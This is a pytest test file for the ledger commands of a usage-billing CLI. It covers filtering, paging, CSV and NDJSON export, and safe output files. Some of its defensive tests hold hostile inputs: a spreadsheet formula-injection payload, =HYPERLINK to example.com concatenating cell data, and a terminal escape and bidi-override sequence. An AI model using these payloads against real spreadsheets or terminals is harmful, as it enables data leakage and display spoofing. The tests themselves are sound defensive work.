"""`ledger status`, `events`, `records` and `export`: what they show, filtered and in which form."""

import csv
import io
import json
import stat
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.adapters.ledger import queries
from tests.commands.ledgers import ACCEPTED, CARRIED, ELEVEN, IN_DOUBT, LATE, TEN, configured, ledger, lived, tamper
from tests.support.books import HOUR, NOW, RED, Books, event

RECORDS = [ACCEPTED, IN_DOUBT, CARRIED, LATE]


@pytest.fixture(name="books", scope="module")
def _books(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Books]:
    """Open one ledger for all tests of this file: they only read, next to the one that writes."""
    with lived(tmp_path_factory.mktemp("reading") / "ledger.db") as books:
        yield books


def lines_of(capsys: pytest.CaptureFixture[str], books: Books, *arguments: str) -> list[Any]:
    """Return the JSON lines of a command that ends with 0."""
    assert 0 == ledger(*arguments, "--ledger", str(books.path), "--json")
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def test_status_on_one_screen(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
    """The status shows the pod, what is open, in doubt and kept, and the terms, on one screen."""
    assert 0 == ledger("status", "--ledger", str(books.path))
    out = capsys.readouterr().out
    for words in (
        "pod-2 (downward-api), since 2026-11-23T13:20:00Z; pods on this ledger so far: 2",
        "2, from 2026-11-23T13:00:00Z to 2026-11-24T15:00:00Z",
        "1; see `ledger records --status unbilled`",
        "2 kept, each for 26h; the oldest taken at 2026-11-24T15:20:00Z",
    ):
        assert words in out
    assert len(out.splitlines()) < 24


def test_status_as_json(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
    """--json gives the status as one object."""
    (found,) = lines_of(capsys, books, "status")
    assert (1, 0, 0, True) == (
        found["in_doubt"],
        found["sealed"],
        found["resolved"],
        found["conservation"]["balanced"],
    )
    assert {"uid": "pod-2", "source": "downward-api", "since": "2026-11-23T13:20:00Z", "pods": 2} == found["pod"]
    assert "2026-11-23T11:20:00Z" == found["last_success_at"]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ([], RECORDS),
        (["--status", "unbilled"], [IN_DOUBT, LATE]),
        (["--status", "sealed"], []),
        (["--dimension", "requests", "--hour", ELEVEN], [IN_DOUBT]),
        (["--dimension", "nothing"], []),
        (["--after", CARRIED], [LATE]),
        (["--limit", "2"], [ACCEPTED, IN_DOUBT]),
    ],
)
def test_records_are_filtered(
    books: Books, capsys: pytest.CaptureFixture[str], filters: list[str], expected: list[str]
) -> None:
    """The filters are those of the API, and every one that is given must match."""
    assert expected == [record["id"] for record in lines_of(capsys, books, "records", *filters)]


def test_short_pages_are_joined(
    books: Books, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where records have many allocations, the command reads further pages until its limit."""
    monkeypatch.setattr(queries, "_PAGE_BYTES", 0)
    assert RECORDS == [record["id"] for record in lines_of(capsys, books, "records")]
    assert RECORDS[:2] == [record["id"] for record in lines_of(capsys, books, "records", "--limit", "2")]


def test_records_as_table(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
    """Without --json a record is a line, and a list that was cut shows how it continues."""
    assert 0 == ledger("records", "--ledger", str(books.path), "--limit", "1")
    shown = capsys.readouterr()
    assert [["rec-1", "requests", TEN, "2.5", "accepted", "1", "mr-1", "-", "-"]] == [
        line.split() for line in shown.out.splitlines()[1:]
    ]
    assert "There are more rows: continue with --after rec-1, or use `ledger export`.\n" == shown.err


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ([], ["d1", "e1"]),
        (["--id", "d1"], ["d1"]),
        (["--id", "a1"], []),
        (["--hour", "2026-11-24T15:00:00Z"], ["e1"]),
        (["--dimension", "peak"], []),
        (["--limit", "1"], ["d1"]),
    ],
)
def test_events_are_filtered(
    books: Books, capsys: pytest.CaptureFixture[str], filters: list[str], expected: list[str]
) -> None:
    """Events still kept are listed in order of arrival."""
    assert expected == [each["id"] for each in lines_of(capsys, books, "events", *filters)]


def test_event_members(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An event shows what the app gave, its hour and when it was taken; one with a value has no quantity."""
    books = Books(tmp_path / "ledger.db")
    books.take(
        event("1.50", id="a", at=NOW - HOUR, tags=RED),
        event("1", id="b", dimension="users", value="anna"),
    )
    first, second = lines_of(capsys, books, "events")
    books.close()
    assert {
        "id": "a",
        "dimension": "requests",
        "quantity": "1.5",
        "value": None,
        "timestamp": "2026-11-23T09:20:00Z",
        "tags": {"Team": "red"},
        "hour": "2026-11-23T09:00:00Z",
        "taken_at": "2026-11-23T10:20:00Z",
    } == first
    assert (None, "anna", None) == (second["quantity"], second["value"], second["timestamp"])


def test_terminal_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What an app put into an id cannot steer the terminal that shows it."""
    books = Books(tmp_path / "ledger.db")
    books.take(event("1", id="\x1b[2J\n\u202e"))
    assert 0 == ledger("events", "--ledger", str(books.path))
    books.close()
    (_, line) = capsys.readouterr().out.splitlines()
    assert "\\x1b[2J\\n\\u202e" == line.split()[0]


def test_export_lists_everything(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
    """NDJSON is the default and has every record with every member, whatever the page size."""
    found = lines_of(capsys, books, "export")
    assert RECORDS == [record["id"] for record in found]
    assert lines_of(capsys, books, "records") == found
    assert ["d1", "e1"] == [each["id"] for each in lines_of(capsys, books, "export", "--events")]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://example.com/"&A1)', '\'=HYPERLINK("http://example.com/"&A1)'),
        ("+1", "'+1"),
        ("-1+A1", "'-1+A1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1.5", "-1.5"),
        ("order=1", "order=1"),
        ("a;b=1 -2", "a;b=1 -2"),
        ("a;=1+1;-1", "a;'=1+1;'-1"),
        ("a|@x\t+1", "a|'@x\t'+1"),
        ('a; "=1', "a;' \"=1"),
        ("a\n=1", "a\n'=1"),
    ],
)
def test_csv_holds_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, cell: str) -> None:
    """Text of the app is no formula for a spreadsheet: a single quote precedes it. Numbers, and NDJSON, are exact."""
    with closing(Books(tmp_path / "ledger.db")) as books:
        books.take(event("1.5", id=text, tags=(("note", text),)), event(dimension="users", value=text, id="b"))
        assert 0 == ledger("export", "--events", "--format", "csv", "--ledger", str(books.path))
        written = capsys.readouterr().out
        first, second = csv.DictReader(io.StringIO(written))
        assert (cell, "1.5", cell) == (first["id"], first["quantity"], second["value"])
        assert {"note": text} == json.loads(first["tags"])
        for separator in ";|\t":
            cells = [each for row in csv.reader(io.StringIO(written), delimiter=separator) for each in row]
            assert not [each for each in cells if each.startswith(("=", "+", "@"))]
        assert [text, "b"] == [each["id"] for each in lines_of(capsys, books, "export", "--events")]


def test_csv_equals_ndjson(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
    """CSV has the same columns and values; lists are JSON in their cell, and nothing is an empty cell."""
    expected = lines_of(capsys, books, "export")
    assert 0 == ledger("export", "--format", "csv", "--ledger", str(books.path))
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert list(expected[0]) == list(rows[0])
    for record, row in zip(expected, rows, strict=True):
        cells = {
            name: json.dumps(value) if isinstance(value, list) else "" if value is None else str(value)
            for name, value in record.items()
        }
        assert cells == row


def test_export_of_many_pages(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """More records than one page holds are all exported, once and in order."""
    books = Books(tmp_path / "ledger.db", durable=False)
    with books.store.transaction():
        books.store.connection.executemany(
            "INSERT INTO record (pod, dimension, hour, kind, status, quantity, whole, gathered, remainder_before,"
            " remainder_after, excess, client_token, timestamp, sealed_at)"
            " VALUES (1, 1, ?, 'slot', 'sealed', '0', 0, '0', '0', '0', '0', ?, 0, 0)",
            [(3600 * number, f"token-{number}") for number in range(2001)],
        )
    found = lines_of(capsys, books, "export")
    books.close()
    assert [f"rec-{number + 1}" for number in range(2001)] == [record["id"] for record in found]


def test_output_is_whole(books: Books, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--output replaces the file with a whole one that no other user may read, and leaves nothing next to it."""
    target = tmp_path / "usage.csv"
    target.write_text("before")
    assert 0 == ledger("export", "--ledger", str(books.path), "--format", "csv", "--output", str(target))
    assert 5 == len(target.read_text().splitlines())
    assert ([target], "") == (list(tmp_path.iterdir()), capsys.readouterr().out)
    assert 0o600 == stat.S_IMODE(target.stat().st_mode)


def test_failed_output_keeps_old_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An export that fails half way leaves the file of before and nothing else."""
    books = Books(tmp_path / "ledger.db")
    books.take(event("1"))
    books.seal()
    books.close()
    tamper(books.path, "UPDATE record SET quantity = 'abc'")
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "usage.ndjson"
    target.write_text("before")
    assert 4 == ledger("export", "--ledger", str(books.path), "--output", str(target))
    assert ([target], "before") == (list(folder.iterdir()), target.read_text())
    assert "a row cannot be read" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["ledger.db", "ledger.db-wal", ".", "missing/usage.csv"])
def test_output_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    """The ledger itself, what is no file, and a folder that is not there are refused with 2; nothing is touched."""
    books = Books(tmp_path / "ledger.db")
    before = books.path.read_bytes()
    assert 2 == ledger("export", "--ledger", str(books.path), "--output", str(tmp_path / name))
    assert before == books.path.read_bytes()
    books.close()
    assert "cannot be written" in capsys.readouterr().err


def test_configuration_names_the_ledger(
    books: Books, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without options the ledger is the configured one; --ledger goes before it."""
    monkeypatch.setenv("SIDECAR_CONFIG", str(configured(books.path)))
    assert 0 == ledger("records")
    assert ACCEPTED in capsys.readouterr().out
    other = Books(tmp_path / "other.db")
    other.close()
    assert 0 == ledger("records", "--config", str(configured(books.path)), "--ledger", str(other.path))
    assert ACCEPTED not in capsys.readouterr().out


@pytest.mark.parametrize("command", ["status", "events", "records", "verify", "export", "resolve"])
def test_help_has_example(capsys: pytest.CaptureFixture[str], command: str) -> None:
    """Each command's help ends with an example of it."""
    assert 0 == ledger(command, "--help")
    assert f"example: marketplace-sidecar ledger {command}" in capsys.readouterr().out


@pytest.mark.parametrize(
    "arguments",
    [
        [],
        ["nonsense"],
        ["records", "--status", "lost"],
        ["records", "--hour", "2026-11-23T10:30:00Z"],
        ["records", "--hour", "2026-11-23T10:00:00+00:00"],
        ["events", "--hour", "today"],
        ["events", "--limit", "0"],
        ["events", "--limit", "1000001"],
        ["events", "--limit", "-1"],
        ["records", "--after", "q"],
        ["records", "--audit", "--after", "rec-"],
        ["export", "--format", "xml"],
        ["verify", "extra"],
        ["events", "--id", "\udcff"],
        ["records", "--dimension", "\udcff"],
    ],
)
def test_bad_options_are_two(capsys: pytest.CaptureFixture[str], arguments: list[str]) -> None:
    """Options that cannot be understood end with 2 and the usage."""
    assert 2 == ledger(*arguments)
    assert capsys.readouterr().err.startswith("usage: marketplace-sidecar ")


@given(
    command=st.sampled_from(["status", "events", "records", "verify", "export"]),
    option=st.sampled_from(["--dimension", "--hour", "--id", "--limit", "--after", "--status", "--json", "--all"]),
    value=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30),
)
def test_any_options_end_plainly(books: Books, command: str, option: str, value: str) -> None:
    """Whatever an option is given, the command lists or refuses; it never breaks down."""
    assert ledger(command, "--ledger", str(books.path), f"{option}={value}") in {0, 2}
